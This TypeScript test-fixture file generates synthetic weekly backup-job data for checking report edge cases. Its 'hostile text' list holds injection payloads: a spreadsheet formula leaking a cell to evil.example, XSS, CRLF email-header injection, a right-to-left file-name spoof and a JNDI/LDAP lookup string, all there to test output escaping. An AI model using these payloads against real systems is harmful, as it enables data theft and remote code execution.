import type { Completeness } from '@jobdesk/jobs-core/client';
import { type BoundedWindow, type Job, jobTypes } from '@jobdesk/jobs-core/model';

const hour = 3_600_000;

/** A week with its jobs, as a report meets it. */
export interface Week {
  readonly name: string;
  readonly tenantName: string;
  readonly timeZone: string;
  readonly window: BoundedWindow;
  readonly jobs: readonly Job[];
  readonly completeness: Partial<Completeness>;
}

const newYork = {
  timeZone: 'America/New_York',
  window: { from: Date.parse('2026-11-16T05:00:00Z'), to: Date.parse('2026-11-23T05:00:00Z') },
};

/** A job that ran; ordinary where nothing else is said. */
export function madeUpJob(fields: Partial<Job> & { readonly startedAt: number }): Job {
  return {
    id: `FB${fields.startedAt}`,
    type: 20_009,
    service: 256,
    operation: 'backup',
    status: 2,
    counts: { failed: 0, successful: 12, skipped: 0, total: 12 },
    finishedAt: fields.startedAt + 1_800_000,
    durationMs: 1_800_000,
    comments: '',
    ...fields,
  };
}

/** So many jobs of every type and outcome, spread over the window; the same ones every time. */
export function madeUpJobs(
  count: number,
  { from, to }: BoundedWindow,
  comments: readonly string[] = [''],
): readonly Job[] {
  let state = 42;
  const random = (): number => {
    state = (state * 16_807) % 2_147_483_647;
    return state / 2_147_483_647;
  };
  const statuses = [2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 8, 16, 64, 4, 1];
  return Array.from({ length: count }, (_, index) => {
    const type = jobTypes[Math.floor(random() * jobTypes.length)];
    const status = statuses[Math.floor(random() * statuses.length)] ?? 2;
    const startedAt = from + Math.floor((random() * (to - from)) / 1000) * 1000;
    const total = Math.floor(random() * 12);
    const failed = status === 16 ? total : random() < 0.05 ? 1 : 0;
    const durationMs = status === 1 ? null : Math.floor(random() * 7200) * 1000;
    return madeUpJob({
      id: `FB${index}`,
      type: type?.code ?? null,
      service: type?.service ?? null,
      operation: type?.operation ?? null,
      status,
      counts: { failed, successful: Math.max(0, total - failed), skipped: 0, total },
      startedAt,
      finishedAt: durationMs === null ? null : startedAt + durationMs,
      durationMs,
      comments: comments[index % comments.length] ?? '',
    });
  });
}

const scripts = [
  'Die Sicherung schlug fehl: Zugriff verweigert – größere Datei übersprungen',
  'Η αντίγραφη ασφαλείας απέτυχε',
  'Резервное копирование не выполнено',
  '备份失败:磁盘已满',
  'فشل النسخ الاحتياطي',
  'गुप्त प्रतिलिपि विफल 🙈',
];

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  'line one\r\nBcc: everyone@example.com\r\n\r\nhello',
  '"><a href="https://evil.example">login</a>',
  '@everyone www.evil.example javascript:alert(1) \u202Egnp.exe \u0000\u0007',
  '{{7*7}} ${jndi:ldap://evil.example/a} %s%n',
];

const incomplete: Partial<Completeness> = {
  complete: false,
  read: 150,
  expected: 214,
  notes: [{ kind: 'page-failed', incomplete: true, text: 'Page 3 of Amazon EC2 backups could not be read: 503.' }],
};

const london = {
  timeZone: 'Europe/London',
  window: { from: Date.parse('2026-10-18T23:00:00Z'), to: Date.parse('2026-10-26T00:00:00Z') },
};

const midweek = newYork.window.from + 50 * hour;

/** The weeks that every surface must agree on. */
export const weeks: readonly Week[] = [
  week('an ordinary one', newYork, madeUpJobs(400, newYork.window)),
  week('no jobs', newYork, []),
  week('one job', newYork, [madeUpJob({ startedAt: midweek })]),
  week(
    'only open jobs',
    newYork,
    [0, 1, 32].map((status, index) =>
      madeUpJob({ id: `FB${index}`, status, startedAt: midweek + index, finishedAt: null, durationMs: null }),
    ),
  ),
  week('incomplete', newYork, madeUpJobs(150, newYork.window), incomplete),
  week('unknown codes', newYork, [
    ...madeUpJobs(60, newYork.window),
    madeUpJob({ id: 'FBx', status: 3, startedAt: midweek }),
    madeUpJob({ id: 'FBy', status: null, startedAt: midweek }),
    madeUpJob({ id: 'FBz', type: 99_999, service: null, operation: null, startedAt: midweek }),
    madeUpJob({ id: 'FBw', type: null, service: null, operation: null, startedAt: midweek }),
  ]),
  week('a clock change', london, madeUpJobs(338, london.window)),
  week('20,000 jobs', newYork, madeUpJobs(20_000, newYork.window)),
  week(
    'six scripts',
    newYork,
    madeUpJobs(120, newYork.window, scripts),
    {},
    'Ελλάδα Отдел 株式会社 شركة लिमिटेड Müller',
  ),
  week('hostile text', newYork, madeUpJobs(120, newYork.window, hostile), {}, 'Evil <b>Corp</b>\r\nBcc: x@example.com'),
];

function week(
  name: string,
  where: Pick<Week, 'timeZone' | 'window'>,
  jobs: readonly Job[],
  completeness: Partial<Completeness> = {},
  tenantName = 'Contoso',
): Week {
  return { name, tenantName, ...where, jobs, completeness };
}
